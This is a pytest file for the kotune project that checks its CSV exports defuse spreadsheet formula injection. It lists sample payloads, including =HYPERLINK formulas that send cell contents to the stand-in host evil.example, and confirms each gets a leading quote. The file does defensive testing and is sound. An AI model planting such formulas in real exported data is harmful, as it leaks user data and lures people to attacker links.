"""Every CSV kotune writes (label_issues.csv, the leaderboard's leaderboard.csv) keeps a text cell from
running as a spreadsheet formula: a cell starting with = + - @, a tab, a carriage return or a
full-width ＝ ＋ － ＠ gets a leading single quote (OWASP's rule); numbers stay numbers, and so does
a lone character (the leaderboard's "-" for no mode); the JSONL beside the CSV keeps the text as it was."""
from __future__ import annotations

import csv
import json
from pathlib import Path

import pytest

from kotune.core.files import csv_cell

DANGEROUS = ["=1+3", "＝1+4", '=HYPERLINK("http://evil.example/?x="&A1,"click")', "+1+2", "-1+2", "@SUM(A1:A2)",
             "\t=1+5", "\r=1+6", "＋cmd", "－cmd", "＠cmd", "--x", "@@"]


@pytest.mark.parametrize("text", DANGEROUS)
def test_a_text_a_spreadsheet_would_run_gets_a_leading_quote(text):
    assert csv_cell(text) == "'" + text


@pytest.mark.parametrize("value", [-0.5, "-0.5", 3, "+1e5", "-2", ".5", 0.25, "plain text", "a=b", "", "'=quoted", "-", "="])
def test_numbers_and_harmless_text_stay_as_they_are(value):
    assert csv_cell(value) == value


def read_csv(path: Path) -> list[dict]:
    with open(path, encoding="utf-8", newline="") as f:
        return list(csv.DictReader(f))


def test_label_issues_csv_is_neutralised_and_its_jsonl_raw(tmp_path):
    from kotune.actions.label_issues import write_outputs
    from kotune.reporting.label_issues import FIELDS

    rows = [{"rank": i + 1, "id": f"train.tsv:{i + 2}", "text": text, "text_pair": None, "given_label": "-neg",
             "suggested_label": "＝pos", "label_quality": -0.5 if i == 0 else 0.1 * i,
             "given_probability": 0.2, "suggested_probability": 0.7, "fold": 0}
            for i, text in enumerate(DANGEROUS)]
    out = write_outputs(str(tmp_path), rows, FIELDS)
    raw = [json.loads(line) for line in Path(out["jsonl"]).read_text(encoding="utf-8").splitlines()]
    assert [r["text"] for r in raw] == DANGEROUS and raw[0]["given_label"] == "-neg"
    table = read_csv(Path(out["csv"]))
    assert [r["text"] for r in table] == ["'" + t for t in DANGEROUS]
    assert {r["given_label"] for r in table} == {"'-neg"} and {r["suggested_label"] for r in table} == {"'＝pos"}
    assert table[0]["label_quality"] == "-0.5" and table[0]["rank"] == "1" and table[0]["text_pair"] == ""


def test_the_leaderboard_csv_is_neutralised(tmp_path):
    from kotune import reporting

    model, mode = '=HYPERLINK("http://evil.example/","x")', "@mode"
    body = {"task": "nli", "model": model, "mode": mode, "action": "train", "seed": 1, "status": "ok",
            "main_metric": "accuracy", "metrics": {"accuracy": 80.0}, "main_score": 80.0, "config_hash": "h1",
            "config": {"task": {"name": "nli"}, "model": {"name": model}, "mode": {"name": mode},
                       "train": {"seed": 1}}}
    run = tmp_path / "runs" / "a" / "results.json"
    run.parent.mkdir(parents=True)
    run.write_text(json.dumps(body), encoding="utf-8")
    assert reporting.main([str(tmp_path / "runs")]) == 0
    (row,) = read_csv(tmp_path / "runs" / "leaderboard.csv")
    assert row["model"] == "'" + model and row["mode"] == "'" + mode
    assert float(row["nli.accuracy.mean"]) == pytest.approx(80.0)
